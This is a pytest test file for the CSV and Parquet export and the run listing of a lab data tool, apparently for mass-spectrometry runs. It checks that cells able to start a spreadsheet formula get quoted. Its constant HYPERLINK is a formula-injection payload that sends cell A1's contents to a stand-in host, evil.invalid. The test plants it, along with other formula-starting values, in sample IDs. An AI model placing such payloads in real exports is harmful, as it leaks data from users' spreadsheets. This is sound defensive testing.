"""`asnmon export`: a CSV a spreadsheet opens without running anything in it."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import polars as pl
import pytest

from asnmon.assay import Assay
from asnmon.cli import main
from asnmon.export import FORMULA_START, quote_formulas
from asnmon.pipeline import RunIngestor, ingest_paths
from asnmon.simulate import SimConfig, simulate_run
from asnmon.store import RunInfo, Store
from asnmon.worklist import load_worklist

HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'


def read_cells(path: Path) -> list[dict[str, str]]:
    """The CSV as a spreadsheet receives it: raw text cells."""
    with path.open(newline="", encoding="utf-8-sig") as fh:  # as Excel does: BOM = UTF-8
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_that_starts_a_formula_is_quoted_numbers_are_not(start: str, tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "text": [f"{start}1+1", "plain", None, "a=b", "'already"],
            "number": [-3.5, 2.0, None, -0.0, 1e-9],
            "count": [-2, 0, None, 5, -7],
        }
    )
    out = tmp_path / "x.csv"
    quote_formulas(frame).write_csv(out)
    cells = read_cells(out)
    assert [c["text"] for c in cells] == [f"'{start}1+1", "plain", "", "a=b", "'already"]
    assert [c["number"] for c in cells] == ["-3.5", "2.0", "", "-0.0", "1e-9"]
    assert [c["count"] for c in cells] == ["-2", "0", "", "5", "-7"]
    back = pl.read_csv(out)
    assert back["number"].to_list() == frame["number"].to_list()  # still numbers
    assert back["count"].to_list() == frame["count"].to_list()


def test_export_of_a_worklist_with_formula_sample_ids(tmp_path: Path, assay: Assay) -> None:
    folder = tmp_path / "run"
    sim = simulate_run(folder, SimConfig(n_samples=4, seed=3))
    with sim.worklist_path.open(encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    crafted = {"016_S0001": HYPERLINK, "017_S0002": "-12", "018_S0003": "@SUM(A1:A9)"}
    for row in table:
        row["sample_id"] = crafted.get(row["file"], row["sample_id"])
    with (folder / "worklist.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, list(table[0].keys()))
        writer.writeheader()
        writer.writerows(table)
    db = tmp_path / "e.duckdb"
    with Store(db) as store:
        ingestor = RunIngestor(
            store, assay, RunInfo("run", "run"), load_worklist(folder / "worklist.csv")
        )
        ingest_paths(ingestor, sorted(folder.glob("*.mzML")))

    assert main(["export", "--db", str(db), "--out", str(tmp_path / "r.csv")]) == 0
    assert main(["export", "--db", str(db), "--out", str(tmp_path / "r.parquet")]) == 0
    cells = {Path(c["file"]).stem: c for c in read_cells(tmp_path / "r.csv")}
    assert cells["016_S0001"]["sample_id"] == "'" + HYPERLINK
    assert cells["017_S0002"]["sample_id"] == "'-12"
    assert cells["018_S0003"]["sample_id"] == "'@SUM(A1:A9)"
    for row in cells.values():  # no text cell of the export starts a formula
        assert not any(v.startswith(FORMULA_START) for v in row.values()), row
    frame = pl.read_csv(tmp_path / "r.csv")
    assert frame.schema["analyte_area"] == pl.Int64  # numbers are still numbers (counts)
    assert frame.schema["accuracy_pct"] == pl.Float64
    raw = (tmp_path / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not the ANSI page
    assert {c["unit"] for c in cells.values() if c["unit"]} == {"µM"}
    for row in cells.values():  # the documented rounding, cell by cell as written
        for col in ("conc_vial", "conc"):
            if row[col]:
                digits = row[col].replace(".", "").replace("-", "").lstrip("0")
                assert len(digits.rstrip("0") or "0") <= 3, (col, row[col])
        for col in ("analyte_area", "is_area"):
            assert row[col] == "" or row[col].isdigit(), (col, row[col])
        for col in ("accuracy_pct", "is_pct"):
            assert row[col] == "" or len(row[col].split(".")[-1]) <= 1, (col, row[col])
    parquet = pl.read_parquet(tmp_path / "r.parquet")  # typed: the value as the lab wrote it
    ids = dict(zip(parquet["file"], parquet["sample_id"], strict=True))
    assert ids["016_S0001.mzML"] == HYPERLINK and ids["017_S0002.mzML"] == "-12"
    shutil.rmtree(folder)


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory: pytest.TempPathFactory, assay: Assay) -> Path:
    """A database with two ingested runs, the second one reviewed."""
    tmp = tmp_path_factory.mktemp("runs")
    db = tmp / "lab.duckdb"
    with Store(db) as store:
        for name, seed in (("alpha", 1), ("beta", 2)):
            sim = simulate_run(tmp / name, SimConfig(n_samples=3, seed=seed))
            ingestor = RunIngestor(
                store, assay, RunInfo(name, name), load_worklist(sim.worklist_path)
            )
            ingest_paths(ingestor, sorted((tmp / name).glob("*.mzML")))
        if hasattr(store, "sign_run"):  # the sign-off store lands beside this (issue 13)
            from asnmon.users import cli_actor

            store.add_user("rita", "reviewer", "review-pass-1", actor=cli_actor("test"))
            store.sign_run("beta", name="rita", password="review-pass-1", meaning="reviewed")
    return db


def test_export_of_an_unknown_run_fails_and_names_the_runs(
    two_runs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "x.csv"
    code = main(["export", "--db", str(two_runs), "--out", str(out), "--run", "nosuchrun"])
    err = capsys.readouterr().err
    assert code == 2
    assert "no run 'nosuchrun'" in err and "alpha" in err and "beta" in err
    assert "asnmon runs" in err
    assert not out.exists()  # no empty file left to be mistaken for a result
    assert main(["export", "--db", str(two_runs), "--out", str(out), "--run", "beta"]) == 0
    assert {c["run_id"] for c in read_cells(out)} == {"beta"}


def test_runs_lists_verdicts_counts_and_sign_off(
    two_runs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["runs", "--db", str(two_runs)]) == 0
    lines = capsys.readouterr().out.splitlines()
    header = lines[0].split()
    assert header[:4] == ["RUN", "CREATED", "VERDICT", "INJ"]
    rows = {line.split()[0]: line for line in lines[1:3]}
    with Store(two_runs, read_only=True) as store:
        runs = {r["run_id"]: r for r in store.runs().iter_rows(named=True)}
        for run_id, line in rows.items():
            res = store.results(run_id)
            assert str(runs[run_id]["verdict"]).upper() in line
            samples = res.filter(pl.col("sample_type") == "sample")
            numbers = re.findall(r"\s(\d+)(?=\s)", line + " ")
            assert str(res.height) in numbers and str(samples.height) in numbers
    signed = hasattr(Store, "sign_run")
    assert rows["beta"].rstrip().endswith("reviewed" if signed else "open")
    assert rows["alpha"].rstrip().endswith("open")
    assert list(rows) == ["beta", "alpha"]  # newest first


def test_runs_of_an_empty_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "empty.duckdb"
    Store(db).close()
    assert main(["runs", "--db", str(db)]) == 0
    assert "no run" in capsys.readouterr().out
